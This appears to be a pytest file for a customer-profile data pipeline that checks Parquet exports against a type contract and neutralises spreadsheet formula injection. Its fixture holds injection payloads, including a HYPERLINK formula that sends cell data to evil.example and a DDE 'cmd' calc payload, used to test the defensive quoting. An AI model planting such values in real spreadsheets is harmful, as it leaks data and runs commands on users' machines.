"""The Parquet exports' contract: every column is cast to the contract's type (a type the data
happens to produce never blocks a publish, a real break still does, naming export and column),
and text a spreadsheet would run as a formula is neutralised in the files, not in the warehouse.
Real DuckDB files, the committed contract, the export SELECTs the publish asset uses."""

import datetime as dt
import json
import shutil

import duckdb
import pytest
from handmade import write_exports

from assets.publish import EXPORTS, export_selects
from pipelines.cli import main
from pipelines.definitions import build_definitions
from transforms import export
from transforms.export import (
    ExportContractError,
    commit_exports,
    load_contract,
    stage_exports,
)
from transforms.sql import describe, quote_ident

SNAPSHOT = dt.date(2026, 11, 20)
CONTRACT = load_contract()
# The working column each masked export column comes from.
WORKING_NAME = {"customer_key": ("customer_id", "VARCHAR"), "birth_year": ("birth_date", "DATE")}


def working_warehouse(con, types: dict[str, dict[str, str]] | None = None,
                      drop: dict[str, str] | None = None) -> None:
    """The working tables the exports read, with the contract's types (plus snapshot_date),
    except ``types`` (export → column → type) and the ``drop``ped column (export → column)."""
    types, drop = types or {}, drop or {}
    for name, table in EXPORTS.items():
        columns = {}
        for column, dtype in CONTRACT["tables"][name].items():
            column, dtype = WORKING_NAME.get(column, (column, dtype))
            if drop.get(name) != column:
                columns[column] = types.get(name, {}).get(column, dtype)
        columns["snapshot_date"] = "DATE"
        con.execute(f"CREATE SCHEMA IF NOT EXISTS {table.split('.')[0]}")
        con.execute(f"CREATE TABLE {table} ("
                    + ", ".join(f"{quote_ident(c)} {t}" for c, t in columns.items()) + ")")


FORMULAS = {  # profile column → value in the working table
    "city": '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
    "industry": "@SUM(1+1)",
    "province": "+cmd|' /C calc'!A0",
    "crm_stage": "\t=1+1",
    "owner": "\r=1",
    "lead_source": "-15",
    "gender": "+86",
    "age_band": "30-40岁",
    "segment_name": "-2+3",
    "preferred_hour_band": "+86 138 0013 8000",
    "rfm_segment": "'=already quoted",
    "opportunity_stage": "-",
}


def insert_profile(con) -> None:
    row = {"customer_id": "C1", "name": "张伟", "phone": "+8613800138000", "segment_id": 3,
           "birth_date": dt.date(1985, 3, 12), "snapshot_date": SNAPSHOT,
           "tags": ["=1+1", "-15", "普通客户"], "tag_ids": ["t1", "@t2"], **FORMULAS}
    con.execute(f"INSERT INTO profile.customer_profile ({', '.join(map(quote_ident, row))}) "
                f"VALUES ({', '.join('?' * len(row))})", list(row.values()))
    con.execute("INSERT INTO profile.customer_tags VALUES ('C1', '=t', '-1', '+x', '@y', ?)",
                [SNAPSHOT])


def publish(con, exports):
    staged = stage_exports(con, export_selects(con, "test-salt"), exports, SNAPSHOT, "run-1",
                           CONTRACT)
    commit_exports(staged, exports)
    return staged


def parquet(exports, name: str) -> str:
    return f"read_parquet('{exports / 'latest' / f'{name}.parquet'}')"


def test_an_integer_where_the_contract_says_bigint_publishes_as_bigint(tmp_path):
    exports = tmp_path / "exports"
    with duckdb.connect(str(tmp_path / "warehouse.duckdb")) as con:
        working_warehouse(con, {"profile": {"segment_id": "INTEGER"},
                                "segments": {"segment_id": "INTEGER"},
                                "region_distribution": {"spend_365d": "DECIMAL(18,2)",
                                                        "customers": "VARCHAR"}})
        insert_profile(con)
        con.execute("INSERT INTO profile.customer_segments VALUES ('C1', 3, '高价值', ?)",
                    [SNAPSHOT])
        con.execute("INSERT INTO marts.region_distribution VALUES "
                    "('广东', '广州', '12', 1, 398.00, ?)", [SNAPSHOT])
        staged = publish(con, exports)
        assert {s.name: s.rows for s in staged}["profile"] == 1
        # Every file has exactly the contract's columns, order and types.
        for name in EXPORTS:
            assert describe(con, f"SELECT * FROM {parquet(exports, name)}") == \
                CONTRACT["tables"][name], name
        assert con.execute(f"SELECT segment_id FROM {parquet(exports, 'segments')}"
                           ).fetchall() == [(3,)]
        assert con.execute(f"SELECT customers, spend_365d::VARCHAR FROM "
                           f"{parquet(exports, 'region_distribution')}"
                           ).fetchall() == [(12, "398.00")]
        # The working tables keep their own types.
        assert con.execute("SELECT typeof(segment_id) FROM profile.customer_profile"
                           ).fetchall() == [("INTEGER",)]


def test_text_a_spreadsheet_would_run_is_neutralised_in_the_files_only(tmp_path):
    exports = tmp_path / "exports"
    with duckdb.connect(str(tmp_path / "warehouse.duckdb")) as con:
        working_warehouse(con)
        insert_profile(con)
        publish(con, exports)
        columns = [*FORMULAS, "tags", "tag_ids", "name", "phone", "segment_id"]
        [published] = con.execute(f"SELECT {', '.join(columns)} FROM {parquet(exports, 'profile')}"
                                  ).fetchall()
        assert dict(zip(columns, published, strict=True)) == {
            "city": '\'=HYPERLINK("http://evil.example/?q="&A1,"点我")',
            "industry": "'@SUM(1+1)",
            "province": "'+cmd|' /C calc'!A0",
            "crm_stage": "'\t=1+1",
            "owner": "'\r=1",
            "lead_source": "-15",  # a number
            "gender": "+86",  # a number
            "age_band": "30-40岁",  # nothing to guard
            "segment_name": "'-2+3",  # arithmetic with +: not a plain number
            "preferred_hour_band": "+86 138 0013 8000",  # a phone stays readable
            "rfm_segment": "'=already quoted",  # already safe, not quoted twice
            "opportunity_stage": "'-",
            "tags": ["'=1+1", "-15", "普通客户"],
            "tag_ids": ["t1", "'@t2"],
            "name": "张*",
            "phone": "138****8000",
            "segment_id": 3,
        }
        assert con.execute(f"SELECT tag_id, level1, level2, level3 FROM "
                           f"{parquet(exports, 'customer_tags')}").fetchall() == [
            ("'=t", "-1", "'+x", "'@y")]
        # Unmasked exports (publish.mask_pii off: no salt, no contract) are guarded too.
        unmasked = export_selects(con, None)["profile"]
        assert con.execute(f"SELECT customer_id, industry, lead_source FROM ({unmasked})"
                           ).fetchall() == [("C1", "'@SUM(1+1)", "-15")]
        # The working warehouse keeps the values as they came.
        columns = [*FORMULAS, "tags", "tag_ids"]
        [working] = con.execute(f"SELECT {', '.join(columns)} FROM profile.customer_profile"
                                ).fetchall()
        assert dict(zip(columns, working, strict=True)) == {
            **FORMULAS, "tags": ["=1+1", "-15", "普通客户"], "tag_ids": ["t1", "@t2"]}


def test_a_missing_column_fails_naming_the_export_and_the_column(tmp_path):
    exports = tmp_path / "exports"
    with duckdb.connect(str(tmp_path / "warehouse.duckdb")) as con:
        working_warehouse(con, {"profile": {"segment_id": "INTEGER"}}, drop={"profile": "industry"})
        with pytest.raises(ExportContractError) as failure:
            publish(con, exports)
    # Only the real break is named; the INTEGER segment_id is cast, not a problem.
    assert str(failure.value).splitlines() == [
        "exports differ from the contract (transforms/export_contract.json):",
        "  profile: column industry missing (contract: VARCHAR)",
        "If the change is intended, run `profiles export-contract --write` (bumps the version) "
        "and tell the BI users."]
    assert not exports.exists()  # refused before anything was written


@pytest.mark.parametrize(("dtype", "value", "problem"), [
    ("VARCHAR", "many", "column customers is VARCHAR, contract says BIGINT; value many"),
    ("DOUBLE", 1.5, "column customers is DOUBLE, contract says BIGINT; value 1.5"),
    ("HUGEINT", 2**70, "column customers is HUGEINT, contract says BIGINT; value "
                       "1180591620717411303424"),
])
def test_a_value_the_cast_would_change_fails_naming_the_export_and_the_column(
        tmp_path, dtype, value, problem):
    exports = tmp_path / "exports"
    with duckdb.connect(str(tmp_path / "warehouse.duckdb")) as con:
        working_warehouse(con, {"segment_summary": {"customers": dtype}})
        con.execute("INSERT INTO marts.segment_summary (segment_id, customers) VALUES (1, 2), "
                    f"(2, ?::{dtype})", [value])
        with pytest.raises(ExportContractError) as failure:
            publish(con, exports)
    assert str(failure.value).splitlines()[0] == f"segment_summary: {problem} does not fit"
    assert list(exports.rglob("*.parquet")) == []  # what was staged is removed


def test_export_contract_command_pins_the_contract_types(tmp_path, monkeypatch, capsys):
    warehouse = tmp_path / "warehouse" / "profiles.duckdb"
    warehouse.parent.mkdir()
    with duckdb.connect(str(warehouse)) as con:
        working_warehouse(con, {"profile": {"segment_id": "INTEGER"}})
    monkeypatch.setenv("PROFILES_WAREHOUSE", str(warehouse))
    contract = tmp_path / "export_contract.json"
    shutil.copy(export.CONTRACT_PATH, contract)
    monkeypatch.setattr("transforms.export.CONTRACT_PATH", contract)
    # A type the data happens to produce is cast on export: the contract still matches.
    assert main(["export-contract"]) == 0
    assert capsys.readouterr().out == f"exports match the contract (version {CONTRACT['version']})\n"
    # A new column is a change to record on purpose; the recorded types stay the contract's.
    with duckdb.connect(str(warehouse)) as con:
        con.execute("ALTER TABLE marts.tag_summary ADD COLUMN note VARCHAR")
    assert main(["export-contract"]) == 1
    assert capsys.readouterr().out == "tag_summary: new column note VARCHAR\n"
    assert main(["export-contract", "--write"]) == 0
    written = json.loads(contract.read_text(encoding="utf-8"))
    assert written == {"version": CONTRACT["version"] + 1, "tables": {
        **CONTRACT["tables"], "tag_summary": {**CONTRACT["tables"]["tag_summary"],
                                              "note": "VARCHAR"}}}
    assert written["tables"]["profile"]["segment_id"] == "BIGINT"


def test_a_customer_list_only_build_publishes(tmp_path, monkeypatch):
    """Issue 25: with only a CRM customer list every customer is in one segment (1 AS
    segment_id, an INTEGER); the publish used to refuse it against the contract's BIGINT."""
    landing = write_exports(tmp_path / "landing")
    for folder in ("erp", "wechat"):
        shutil.rmtree(landing / folder)
        (landing / folder).mkdir()
    for name in ("followups.csv", "opportunities.csv"):
        (landing / "crm" / name).unlink()
    for key, value in {"PROFILES_LANDING": landing,
                       "PROFILES_WAREHOUSE": tmp_path / "warehouse" / "profiles.duckdb",
                       "PROFILES_EXPORTS": tmp_path / "exports", "PROFILES_PII_SALT": "salt",
                       "PROFILES_LOG_LEVEL": "ERROR"}.items():
        monkeypatch.setenv(key, str(value))
    result = build_definitions().resolve_job_def("nightly_rebuild").execute_in_process(
        raise_on_error=False, run_config={"loggers": {"console": {"config": {"log_level": "ERROR"}}}})
    assert result.success, [e.step_failure_data.error.message for e in result.all_events
                            if e.is_step_failure]
    with duckdb.connect() as con:
        assert con.execute(f"SELECT typeof(segment_id), count(*) FROM "
                           f"{parquet(tmp_path / 'exports', 'profile')} GROUP BY ALL"
                           ).fetchall() == [("BIGINT", 5)]
